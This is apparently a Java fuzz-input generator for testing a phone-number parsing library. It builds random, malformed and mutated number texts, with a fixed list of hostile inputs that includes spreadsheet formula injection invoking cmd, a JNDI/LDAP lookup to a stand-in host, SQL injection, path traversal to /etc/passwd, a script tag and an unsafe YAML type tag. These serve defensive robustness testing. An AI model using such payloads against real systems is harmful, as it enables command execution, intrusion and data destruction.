package dev.ringback.calls.lawful;

import dev.ringback.calls.lawful.numbers.Spelling;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.IntSupplier;

/** Makes texts that strangers may send: random ones of all scripts, broken ones, and mixtures of real spellings. */
final class StrangersTexts {
    private static final int[] ZEROS = {
        '0', 0x0660, 0x06F0, 0x07C0, 0x0966, 0x09E6, 0x0E50, 0x0F20, 0xFF10, 0x104A0, 0x1D7CE, 0x1E950, 0x1FBF0
    };
    private static final int NUMBER_OF_CODE_POINTS = 0x110000;
    private static final int NUMBER_OF_UNITS = 0x10000;

    private static final List<String> NASTY = List.of(
            "\0",
            "+\0",
            "\uD800",
            "\uDC00+1202",
            "+1202\uD83D5550143",
            "\uDBFF\uDFFF",
            "\uFFFE\uFFFF",
            "=HYPERLINK(\"http://a.example/\"&A1)",
            "=1+1",
            "+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "{\"number\":\"+12025550143\"}",
            "[[[[[[[[",
            "{}",
            "null",
            "NaN",
            "-Infinity",
            "1e999999999",
            "0x12025550143",
            "'; DROP TABLE call; --",
            "%s%n%$1d{0}${jndi:ldap://a.example/a}",
            "../../etc/passwd",
            "<script>alert(1)</script>",
            "\uD83D\uDCDE\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "\u202E34105552021+\u202C",
            "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",
            "\u2167\u216B\u00BD\u00B2\u3007\u4E00\u4E8C",
            "Z\u0351\u036B\u0343\u036A\u0302A\u0321\u034A\u0360LGO",
            "\u0130stanbul \u00DF \u0149 \uFB03",
            "030 123456 / 654321",
            "1234567890123456",
            "+1234567890123456",
            "00000000000000000000",
            "++++++++",
            "((((((((((((((((",
            "tel:;;;===ext",
            "+1;ext=;phone-context=+;isub=",
            ";phone-context=+49",
            "tel:%2B%2B%2B%",
            "US-",
            "-",
            "US-CA-US-CA-US",
            "2026-13-45",
            "+999999999-12-31",
            "- { place: US, from: 2026-01-01, until: 2026-01-02, reason: x }",
            "- &a [*a, *a]",
            "- !!java.net.URL [http://a.example]",
            "? [a, b]\n: {c: [d",
            "- place: US\n  from: 2026-02-30\n  until: +999999999-12-31\n  reason: \"\\0\"",
            "%YAML 9.9\n---\n\t- a");

    private final Random random;
    private final List<Spelling> spellings;

    StrangersTexts(long seed) throws IOException {
        this.random = new Random(seed);
        this.spellings = Spelling.table("/numbers/spellings.tsv");
    }

    /** Returns the texts that are nasty by themselves, among them some of a million characters. */
    static List<String> nasty() {
        List<String> texts = new ArrayList<>(NASTY);
        for (String part :
                List.of("9", "+", " ", "(", "a", "1-", "\u0660", "\uD83D\uDE00", "- a\n", ";x=1", ", ", "\0")) {
            texts.add(part.repeat(1_000_000 / part.length()));
            texts.add(part.repeat(250 / part.length()));
            texts.add("+1202" + part.repeat(120 / part.length()) + "5550143");
        }
        return texts;
    }

    /** Returns a random text. */
    String next() {
        return switch (random.nextInt(9)) {
            case 0 -> several(() -> random.nextInt(NUMBER_OF_CODE_POINTS));
            case 1 -> units();
            case 2 -> digits(random.nextInt(1, 30), ZEROS[random.nextInt(ZEROS.length)]);
            case 3 -> several(() -> random.nextInt(' ', 0x7F));
            case 4 -> several(() -> "0123456789+-() ./,;:xe#'\"=\t\n".codePointAt(random.nextInt(28)));
            case 5 -> fragment() + fragment();
            case 6 -> fragment() + nastyOne() + fragment();
            case 7 -> mutated(spelling());
            default -> digits(3, '0') + fragment() + several(() -> random.nextInt(0x2000, 0x2070)) + fragment();
        };
    }

    /** Returns a region as a stranger may write it. */
    String region() {
        return switch (random.nextInt(6)) {
            case 0 -> "";
            case 1 -> next();
            case 2 -> nastyOne();
            default -> spellings.get(random.nextInt(spellings.size())).region();
        };
    }

    private String spelling() {
        return spellings.get(random.nextInt(spellings.size())).typed();
    }

    private String nastyOne() {
        return NASTY.get(random.nextInt(NASTY.size()));
    }

    /** Returns a part of a spelling, which may begin or end between the halves of a character. */
    private String fragment() {
        String whole = spelling();
        int from = random.nextInt(whole.length());
        return whole.substring(from, random.nextInt(from, whole.length()) + 1);
    }

    private String mutated(String text) {
        StringBuilder changed = new StringBuilder(text);
        for (int i = random.nextInt(1, 4); i > 0; i--) {
            changed.setCharAt(random.nextInt(changed.length()), (char) random.nextInt(NUMBER_OF_UNITS));
        }
        return changed.toString();
    }

    private String digits(int length, int zero) {
        StringBuilder digits = new StringBuilder(random.nextBoolean() ? "+" : "");
        for (int i = 0; i < length; i++) {
            digits.appendCodePoint(zero + random.nextInt(10));
        }
        return digits.toString();
    }

    private String several(IntSupplier codePoints) {
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(1, 40); i > 0; i--) {
            text.appendCodePoint(codePoints.getAsInt());
        }
        return text.toString();
    }

    private String units() {
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(1, 40); i > 0; i--) {
            text.append((char) random.nextInt(NUMBER_OF_UNITS));
        }
        return text.toString();
    }
}
